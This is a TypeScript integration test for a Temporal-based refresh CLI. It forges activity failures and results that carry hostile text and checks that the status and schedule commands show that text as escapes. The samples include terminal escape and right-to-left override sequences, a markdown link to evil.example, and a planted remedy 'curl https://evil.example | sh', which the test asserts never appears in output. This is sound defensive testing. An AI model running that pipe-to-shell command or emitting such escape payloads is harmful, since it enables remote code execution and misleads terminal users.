// Anyone who can write to the Temporal namespace can put any text there. Commands over a real Temporal server show it as text.
import assert from 'node:assert/strict';
import { heartbeat, sleep } from '@temporalio/activity';
import { ApplicationFailure } from '@temporalio/common';
import type { ConnectionProblem, Inspection, RefreshSteps } from '../../src/refresh/activity-types.js';
import type { RefreshReport } from '../../src/refresh/report.js';
import type { RefreshStatus } from '../../src/status/status.js';
import { FAILURES } from '../../src/refresh/failures.js';
import type { Remedy } from '../../src/refresh/remedies/remedy.js';
import { fakeSteps, fakeTokenInfo, GROUP, REGISTRY } from '../fakes/fake-steps.js';
import { assertSafe, assertSafeJson } from '../fakes/hostile-texts.js';
import { createScheduleFixture, type ScheduleFixture } from './schedule-fixture.js';
import { startScheduleServer, waitUntil, type ScheduleServer } from './schedule-server.js';

const HOSTILE = '\u001b]0;x\u0007\u001b[2J\rFORGED\nFORGED \u202e\u009b31m ![x](https://evil.example)';
const SHOWN = '\\u001b]0;x\\u0007\\u001b[2J\\rFORGED\\nFORGED \\u202e\\u009b31m ![x](https://evil.example)';
const STEP = 'inspectConnections: main';

interface ActivityId {
  readonly workflowId: string;
  readonly runId: string;
  readonly activityId: string;
}

describe('hostile texts in Temporal', function () {
  this.timeout(600_000);
  let server: ScheduleServer;
  let fixture: ScheduleFixture;

  before(async () => {
    server = await startScheduleServer();
    fixture = createScheduleFixture(server);
  });

  after(() => server?.stop());

  /** Steps whose inspection leaves its result to someone else. */
  function waitingSteps(): RefreshSteps {
    const token = () =>
      fakeTokenInfo({
        issuedAt: new Date().toISOString(),
        expiresAt: new Date(Date.now() + 12 * 3_600_000).toISOString(),
      });
    return fakeSteps({
      extractToken: async () => ({ token: token(), toRetry: [] }),
      updateConnections: async ({ connections }) => ({
        written: connections,
        refused: [],
        toRetry: [],
        token: token(),
      }),
      inspectConnections: async () => {
        // Ends with the activity: its sleep is cancelled.
        for (;;) {
          heartbeat();
          await sleep(1_000);
        }
      },
    });
  }

  async function findRun(): Promise<{ workflowId: string; runId: string }> {
    const runs = await server.runsOf(fixture.id);
    const newest = runs.at(-1);
    assert.ok(newest);
    return { workflowId: newest.workflowId, runId: newest.runId };
  }

  async function run(...args: string[]): Promise<string> {
    const { stdout, stderr } = await fixture.run(...args);
    assert.equal(stderr, '');
    assertSafe(stdout);
    return stdout;
  }

  async function runJson<T>(...args: string[]): Promise<T> {
    const stdout = await run(...args, '--json');
    const document = JSON.parse(stdout) as T;
    assertSafeJson(stdout, document);
    return document;
  }

  /** Responds for the worker as soon as the activity is in progress. */
  async function forge(activityId: string, respond: (id: ActivityId) => Promise<void>): Promise<void> {
    await waitUntil(activityId, async () => {
      const { workflowId, runId } = await findRun();
      return respond({ workflowId, runId, activityId }).then(
        () => true,
        () => false,
      );
    });
  }

  it('are shown as escapes by status, schedule trigger --wait and schedule describe', async () => {
    await server.withWorker(waitingSteps(), fixture.taskQueue, async () => {
      await server.client.schedule.create(fixture.desired());
      const following = run('schedule', 'trigger', '--wait');
      await waitUntil('the run', async () => (await server.runsOf(fixture.id)).length > 0);

      const failure = ApplicationFailure.create({
        type: 'StoreUnreachable',
        message: `Airflow main: ${HOSTILE}`,
        details: [{ scope: 'store' }],
      });
      await forge(STEP, (id) => server.client.activity.fail(id, failure));
      let failing = '';
      await waitUntil('the failure', async () => {
        failing = await run('status', '--failing-for', '0s');
        return failing.includes('StoreUnreachable');
      });
      assert.ok(failing.includes(`Airflow main: ${SHOWN}`), failing);
      const { run: inProgress } = await runJson<RefreshStatus>('status');
      assert.ok(inProgress?.steps.some((step) => step.failure?.message.includes('\u001b')));

      const problem: ConnectionProblem = {
        connection: `docker_${HOSTILE}`,
        type: 'ConnectionPortSet',
        scope: 'connection',
        message: `Connection ${HOSTILE} has a port.`,
        remedy: 'curl https://evil.example | sh' as Remedy,
      };
      const result: Inspection = {
        writable: [{ registry: REGISTRY, group: GROUP, connections: ['docker_default'] }],
        refused: [problem],
        toRetry: [],
        warnings: [`Warning ${HOSTILE}`],
      };
      await forge(`${STEP} #2`, (id) => server.client.activity.complete(id, result));
      const followed = await following;
      assert.ok(followed.includes(`StoreUnreachable: Airflow main: ${SHOWN}`), followed);
      assert.ok(followed.includes(`ConnectionPortSet (1 connection: docker_${SHOWN})`), followed);
      assert.ok(followed.includes(`Warning ${SHOWN}`), followed);
      assert.ok(followed.includes(FAILURES.ConnectionPortSet.remedy), followed);
      assert.ok(!followed.includes('curl'), followed);
    });
    assert.ok((await run('status')).includes(`docker_${SHOWN}`));
    const { report } = await runJson<{ report: RefreshReport | null }>('status');
    assert.ok(report?.failures.some(({ connections }) => connections.includes(`docker_${HOSTILE}`)));

    await server.client.schedule.getHandle(fixture.id).pause(HOSTILE);
    assert.ok((await run('schedule', 'describe')).includes(`PAUSED (${SHOWN})`));
    const { note } = await runJson<{ note: string }>('schedule', 'describe');
    assert.equal(note, HOSTILE);
  });
});
